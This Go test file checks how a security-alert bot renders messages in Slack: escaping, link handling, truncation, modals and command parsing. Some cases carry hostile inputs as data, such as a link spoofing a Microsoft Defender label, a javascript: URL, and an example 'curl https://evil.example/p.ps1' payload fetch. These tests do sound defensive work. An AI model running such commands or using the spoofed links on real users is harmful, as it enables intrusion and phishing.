package slack

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"

	slackapi "github.com/slack-go/slack"
	"github.com/stretchr/testify/require"

	"github.com/threatdesk/threatdesk/bot"
)

func TestCut(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		in   string
		max  int
		want string
	}{
		{"fits", "hello", 5, "hello"},
		{"runes", "héllo wörld", 6, "héllo…"},
		{"never inside an entity", "ab&amp;cd", 5, "ab…"},
		{"never inside a link", "see <https://x.example|x> now", 10, "see …"},
		{"after an entity", "a&lt;bcdef", 7, "a&lt;b…"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got := cut(tc.in, tc.max)
			require.Equal(t, tc.want, got)
			require.LessOrEqual(t, utf8.RuneCountInString(got), tc.max)
			require.True(t, utf8.ValidString(got))
		})
	}
}

func TestSpan(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		in   bot.Span
		want string
	}{
		{"untrusted mentions", bot.U("<!channel> <!here> <@U123> & co"), "&lt;!channel&gt; &lt;!here&gt; &lt;@U123&gt; &amp; co"},
		{"untrusted link stays text", bot.Span{Text: "x", Link: "https://a.example/?q=<b>", Untrusted: true}, "x (https://a.example/?q=&lt;b&gt;)"},
		{"trusted link", bot.L("Defender", "https://security.microsoft.com/alerts/da1?a=1&b=2"), "<https://security.microsoft.com/alerts/da1?a=1&amp;b=2|Defender>"},
		{"link cannot smuggle a label", bot.L("Incident 5", "https://evil.example/login|Open in Microsoft Defender"), "<https://evil.example/login%7COpen%20in%20Microsoft%20Defender|Incident 5>"},
		{"link cannot smuggle a label in its query", bot.L("Incident 5", "https://evil.example/?a=|Open>x"), "<https://evil.example/?a=%7COpen%3Ex|Incident 5>"},
		{"only web links become links", bot.L("Incident 5", "javascript:alert(1)"), "Incident 5"},
		{"a link without a host is text", bot.L("Incident 5", "https:///nohost"), "Incident 5"},
		{"bold keeps spaces outside", bot.B(" Status: "), " *Status:* "},
		{"code", bot.Span{Text: "a`b", Style: bot.StyleCode}, "`aˋb`"},
		{"trusted text escaped too", bot.T("1 < 2"), "1 &lt; 2"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			require.Equal(t, tc.want, span(tc.in))
		})
	}
}

func TestRenderBlocksShapes(t *testing.T) {
	t.Parallel()
	m := bot.Message{
		Title:    "Hands-on-keyboard attack on WS-01",
		Severity: bot.SeverityHigh,
		Text:     []bot.Line{{bot.T("Summary")}},
		Fields:   []bot.Field{{Label: "Status", Value: bot.Line{bot.T("new")}}, {Label: "Assignee"}},
		Sections: []bot.Section{{Title: "Devices", Lines: []bot.Line{{bot.U("ws-01")}}, More: 3}},
		Buttons:  []bot.Button{{Action: bot.ActConsult, Label: "Consult a threat expert", Value: "inc-1", Style: bot.ButtonPrimary}, {Action: bot.ActAcknowledge, Label: "Acknowledge", Value: "inc-1"}},
		Footer:   bot.Line{bot.T("EOD-1")},
	}
	blocks, text := RenderBlocks(m)
	require.Equal(t, "Hands-on-keyboard attack on WS-01", text)
	raw, err := json.Marshal(blocks)
	require.NoError(t, err)
	var got []map[string]any
	require.NoError(t, json.Unmarshal(raw, &got))
	var types []string
	for _, b := range got {
		types = append(types, b["type"].(string))
	}
	require.Equal(t, []string{"header", "section", "section", "section", "actions", "context"}, types)
	require.Contains(t, string(raw), "_and 3 more_")
	require.Contains(t, string(raw), `"style":"primary"`)
	require.Contains(t, string(raw), ":large_orange_circle:")
	require.Equal(t, bot.ActConsult, actionOf("consult"))
	require.Equal(t, bot.ActAskEntity, actionOf("ask_entity/3"))
}

// TestMrkdwnIsVerbatim: Slack turns a bare URL in a mrkdwn text into a
// link unless the text is verbatim, so an address in an alert's title or
// command line became clickable on a card (the bot links only what it
// means to: <url|label>, which verbatim text still renders).
func TestMrkdwnIsVerbatim(t *testing.T) {
	t.Parallel()
	blocks, _ := RenderBlocks(bot.Message{
		Title:    "Beacon",
		Text:     []bot.Line{{bot.U("visit https://evil.example/reset")}},
		Fields:   []bot.Field{{Label: "Status", Value: bot.Line{bot.T("new")}}},
		Sections: []bot.Section{{Title: "Timeline", Lines: []bot.Line{{bot.U("curl https://evil.example/p.ps1")}}}},
		Footer:   bot.Line{bot.L("Defender", "https://security.microsoft.com/alerts/da1")},
	})
	raw, err := json.Marshal(blocks)
	require.NoError(t, err)
	n := strings.Count(string(raw), `"type":"mrkdwn"`)
	require.Positive(t, n)
	require.Equal(t, n, strings.Count(string(raw), `"verbatim":true`), "every mrkdwn text is verbatim: %s", raw)
}

func TestRenderModal(t *testing.T) {
	t.Parallel()
	f := bot.Form{ID: "conclude", State: "EOD-12", Title: "Conclude EOD-12 with a summary", Fields: []bot.FormField{
		{ID: "summary", Label: "Summary", Kind: bot.InputParagraph, Required: true, MaxLength: 5000, Placeholder: strings.Repeat("p", 200)},
		{ID: "ref", Label: "Reference", Value: "x"},
	}}
	v, err := RenderModal(f, "C1")
	require.NoError(t, err)
	require.Equal(t, "conclude", v.CallbackID)
	require.JSONEq(t, `{"s":"EOD-12","c":"C1"}`, v.PrivateMetadata)
	require.LessOrEqual(t, utf8.RuneCountInString(v.Title.Text), MaxModalTitle)
	raw, err := json.Marshal(v)
	require.NoError(t, err)
	require.Contains(t, string(raw), `"max_length":3000`)
	require.Contains(t, string(raw), `"optional":true`)
	_, err = RenderModal(bot.Form{ID: "x", State: strings.Repeat("s", 4000)}, "")
	require.Error(t, err)
}

func TestParseCommandText(t *testing.T) {
	t.Parallel()
	cases := []struct {
		in   string
		name string
		args []string
		text string
	}{
		{"", "", nil, ""},
		{"HELP", "help", nil, ""},
		{"assign EOD-3 <@U0ALICE|alice>", "assign", []string{"EOD-3", "U0ALICE"}, "EOD-3 @alice"},
		{"assign EOD-3 <@U0ALICE>", "assign", []string{"EOD-3", "U0ALICE"}, "EOD-3 @U0ALICE"},
		{`alert da6374 "is this lateral movement?"`, "alert", []string{"da6374", "is this lateral movement?"}, `da6374 "is this lateral movement?"`},
		{"ask “curly quotes work” too", "ask", []string{"curly quotes work", "too"}, "ask “curly quotes work” too"[4:]},
		{"file <https://vt.example/f/abc|abc> now", "file", []string{"https://vt.example/f/abc", "now"}, "abc (https://vt.example/f/abc) now"},
		{"ask <https://x.example>", "ask", []string{"https://x.example"}, "https://x.example"},
		{"ask a &amp;&amp; b &lt;!channel&gt;", "ask", []string{"a", "&&", "b", "<!channel>"}, "a && b <!channel>"},
		{"ask <!here> <#C0SOC|soc>", "ask", []string{"@here", "C0SOC"}, "@here #soc"},
		{`ask "quoted <@U1|bob> mention"`, "ask", []string{"quoted @bob mention"}, `"quoted @bob mention"`},
		{"device  WS-01\u00a0now", "device", []string{"WS-01", "now"}, "WS-01\u00a0now"},
	}
	for _, tc := range cases {
		t.Run(tc.in, func(t *testing.T) {
			t.Parallel()
			name, args, text := ParseCommandText(tc.in)
			require.Equal(t, tc.name, name)
			require.Equal(t, tc.args, args)
			require.Equal(t, tc.text, text)
		})
	}
}

// TestRenderNeverEmitsEmptyText: Slack refuses empty text objects, so an
// empty footer is left out and a button without a label is named by its action.
func TestRenderNeverEmitsEmptyText(t *testing.T) {
	t.Parallel()
	blocks, _ := RenderBlocks(bot.Message{Title: "x", Footer: bot.Line{bot.T("  ")}, Buttons: []bot.Button{{Action: bot.ActTake, Value: "EOD-1"}}})
	raw, err := json.Marshal(blocks)
	require.NoError(t, err)
	require.NotContains(t, string(raw), `"text":""`)
	require.NotContains(t, string(raw), `"type":"context"`)
	require.Contains(t, string(raw), `"text":"take"`)
}

// TestModalInputLimitsAreConsistent: a minimum above the maximum and a
// prefilled value above the maximum are both brought within Slack's rules.
func TestModalInputLimitsAreConsistent(t *testing.T) {
	t.Parallel()
	v, err := RenderModal(bot.Form{ID: "ask", Title: "Ask", Fields: []bot.FormField{
		{ID: "q", Label: "Question", MinLength: 50, MaxLength: 10, Value: strings.Repeat("é", 20)},
	}}, "C1")
	require.NoError(t, err)
	in := v.Blocks.BlockSet[0].(*slackapi.InputBlock)
	el := in.Element.(*slackapi.PlainTextInputBlockElement)
	require.Equal(t, 10, el.MaxLength)
	require.LessOrEqual(t, el.MinLength, el.MaxLength)
	require.Equal(t, strings.Repeat("é", 10), el.InitialValue)
}

// TestLongTextIsNotCutAfterEscaping: a paragraph the bot keeps within 1,800
// characters can pass a section's 3,000 once escaped ("&" is "&amp;"): it
// is split over sections, whole, never inside an entity. It was cut.
func TestLongTextIsNotCutAfterEscaping(t *testing.T) {
	t.Parallel()
	text := strings.Repeat("a&b<c>", 300) // 1,800 runes, 4,800 escaped
	blocks, _ := RenderBlocks(bot.Message{Text: []bot.Line{{bot.U(text)}, {{Text: "(edited)", Style: bot.StyleItalic}}}})
	var all strings.Builder
	for _, b := range blocks {
		s, ok := b.(*slackapi.SectionBlock)
		require.True(t, ok)
		require.LessOrEqual(t, utf8.RuneCountInString(s.Text.Text), MaxSectionText)
		require.False(t, strings.HasSuffix(s.Text.Text, "&") || strings.HasSuffix(s.Text.Text, "&am"), "no entity split")
		all.WriteString(s.Text.Text)
	}
	require.Greater(t, len(blocks), 1)
	require.Equal(t, Escape(text)+"\n_(edited)_", all.String())
	require.NotContains(t, all.String(), "…")
}
